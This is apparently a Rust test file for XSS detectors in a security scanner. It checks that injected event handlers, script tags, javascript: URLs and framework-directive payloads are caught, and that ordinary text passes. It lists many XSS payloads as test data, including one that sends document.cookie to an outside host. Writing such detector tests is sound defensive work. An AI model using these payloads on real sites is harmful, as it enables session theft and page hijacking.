//! What each context catches and lets pass, and that no input costs more than its length.

use super::super::ALL;
use crate::rule::Confidence;

/// The surest finding of all matchers of this folder.
fn surest(value: &[u8]) -> Option<(Confidence, &'static str)> {
    let matchers = ALL.iter().filter(|matcher| matcher.name.starts_with("xss_"));
    matchers.filter_map(|matcher| Some(((matcher.find)(value)?.confidence, matcher.name))).max()
}

fn is_certain(value: &str) -> bool {
    surest(value.as_bytes()).is_some_and(|(confidence, _)| confidence == Confidence::Certain)
}

#[test]
fn pairs_of_the_corpus_are_told_apart() {
    let corpus: toml::Value = toml::from_str(include_str!("../../../../tests/corpus/xss.toml")).expect("valid TOML");
    let pairs = corpus["pair"].as_array().expect("pairs");
    assert!(pairs.len() >= 15);
    for pair in pairs {
        let text = |key: &str| pair[key].as_str().expect("a string");
        assert!(is_certain(text("attack")), "missed: {}", text("name"));
        let found = surest(text("benign").as_bytes());
        assert!(found.is_none(), "false alarm: {} by {found:?}", text("name"));
    }
}

#[test]
fn variants_of_one_attack_are_all_found() {
    let marks = ["", ">", "\">", "'>", "-->", "</title>", "]]>", "text < 5 ", "```html\n"];
    let gaps = [" ", "/", "\t", "\n", "\u{c}", "\r", " x=y ", " x='>' ", "/ /"];
    let values = ["f(1)", "\"f(1)\"", "'a=f'", "f`1`", "\"(f)(1)\"", "'f?.(1)'", "new(X)(1)", "\n=f(1)", "{f('x')}"];
    for mark in marks {
        for gap in gaps {
            for value in values.iter().filter(|value| !value.starts_with('\n')) {
                for event in ["onload", "ONerror", "onsomethingNew"] {
                    let attack = format!("{mark}<x-y{gap}{event} = {value}>");
                    assert!(is_certain(&attack), "{attack:?}");
                }
            }
        }
    }
}

#[test]
fn nothing_around_an_attack_lowers_it() {
    for attack in ["<b onclick=f(1)>", "<script>f(1)</script>", "<a href='javascript:f(1)'>", "<base href=//x.example>"]
    {
        for (before, after) in [
            ("Dear all, ", " it's \"fine\""),
            ("```\n", "\n```"),
            ("<!-- ", " -->"),
            ("<p title=\"", "\">x</p>"),
            ("<p title='", ""),
            ("<a <b <c ", "<d <e"),
            ("{\"a\": \"", "\"}"),
            ("<textarea>", "</textarea>"),
        ] {
            let value = format!("{before}{attack}{after}");
            assert!(is_certain(&value), "{value}");
        }
    }
}

#[test]
fn directives_of_libraries_are_script() {
    for value in [
        "<div x-init=\"alert(1)\">",
        "<div x-data x-on:mouseover.once=\"alert(1)\">",
        "<x @click=\"fetch(`//x/`+document.cookie)\">",
        "<x @mouseover='location=name'>",
        "<x hx-on:click=\"eval(name)\">",
        "<x data-hx-on::load=alert(1)>",
        "<link rel=stylesheet href=//x.example/a.css>",
        "\"><link href='https://x.example/a.css' rel='stylesheet'>",
        "`;alert(1)//",
    ] {
        assert!(is_certain(value), "{value}");
    }
    for (value, most) in [
        ("Put <link rel=\"stylesheet\" href=\"https://x.example/a.css\"> into the head", Confidence::Likely),
        ("<link rel=\"stylesheet\" href=\"https://x.example/a.css\"><p>Hello</p>", Confidence::Likely),
    ] {
        assert!(surest(value.as_bytes()).is_none_or(|(confidence, _)| confidence <= most), "{value}");
    }
}

#[test]
fn what_people_write_passes() {
    for value in [
        "<p>Hello <b>world</b></p>",
        "<foo val=`bar' />",
        "a < b and c > d",
        "I <3 you",
        "Vec<Option<String>>",
        "Ann <ann@example.org>",
        "x = onload = 5",
        "prompt = \"a\"; run(prompt)",
        "response = model.generate(prompt)",
        "self[name] = self._parse(options)",
        "f = eval('lambda: None')",
        "on_done = make()",
        "\"<Name({0})>\".format(self)",
        "`/foo` and `/*rest` are no longer (1) the same",
        "<input onChange={(e) => setX(e.target.value)} />",
        "<form onSubmit={handleSubmit(onSubmit)}>",
        "<sql onerror=\"continue\"/>",
        "<button @click=\"save(item)\" x-on:blur=\"open = false\" v-on:submit.prevent=\"send\">x</button>",
        "<div x-data=\"{ open: false }\" x-init=\"$watch('open', f)\" hx-on:click=\"toggle(this)\">x</div>",
        "mail me @home = later",
        "Try this:\n```\nfetch('/api').then(r => r.json())\n```",
        "Try this:\n```\nsetTimeout('x()', 10)\n```",
        "Try this:\n```\nconst x = await fetch('/api/users');\n```",
        "Try this:\n\n```js\nconst x = await fetch('/api/users');\n```\nIt works.",
        "<li v-for=\"x in xs\" :key=\"x.id\">{{ x.name }}</li>",
        "What does javascript:void(0) mean?",
        "27\", black (matte)",
        "class A { constructor(name) { this.name = name; } }",
        "p { background: url(\"x.png\") }",
        "<link rel=\"icon\" href=\"/favicon.ico\">",
        "megb\u{fc}v\u{f3} <b>x</b>",
    ] {
        assert_eq!(surest(value.as_bytes()), None, "{value}");
    }
}

#[test]
fn no_bytes_make_it_panic() {
    let parts: &[&[u8]] = &[
        b"<",
        b">",
        b"=",
        b"'",
        b"\"",
        b"`",
        b"/",
        b"\\",
        b"(",
        b")",
        b"{{",
        b"}}",
        b"${",
        b"on",
        b"onload",
        b"script",
        b" ",
        b"\n",
        b"\0",
        b"\xC2\xBC",
        b"\xFF",
        b"javascript:",
        b"data:text/html;base64,",
        b"P",
        b"+ADw",
        b":expression(",
        b"alert",
        b"//",
        b"/*",
        b"*/",
        b"<script",
        b"constructor",
        b"\\u",
        b"1",
        b";",
        b",",
        b".",
        b"[",
        b"]",
        b"}",
        b"orderBy",
        b"|",
        b":",
        b"-moz-binding:",
    ];
    let mut state = 1_u64;
    for _ in 0..20_000 {
        let mut value = Vec::new();
        for _ in 0..12 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            let index = (state >> 33) as usize % parts.len();
            value.extend_from_slice(parts[index]);
        }
        let _ = surest(&value);
    }
}

#[test]
fn no_input_takes_more_than_linear_time() {
    for part in [
        "<a ",
        "<a/onx=/*",
        "<a/onxyz=a<",
        "<a/@x=a<",
        "<a/@x=y=1<",
        "<a x='<b \"",
        "<script>a",
        "<script>/*",
        "javascript:",
        "'javascript:a+",
        "=javascript:/[",
        "javascript\t:",
        ":/*",
        "a:expression(a+",
        "data:text/html;base64,PHN2Zy9",
        "{{a",
        "${/*",
        "constructor`",
        "orderBy:'",
        "((",
        "//\u{2028}",
        "+ADw",
        "<x/onload={a=>",
        "on=",
        "'-f(",
        "<script> a\n",
        "<base href=",
    ] {
        let value = part.repeat(60_000 / part.len());
        let _ = surest(value.as_bytes());
    }
}
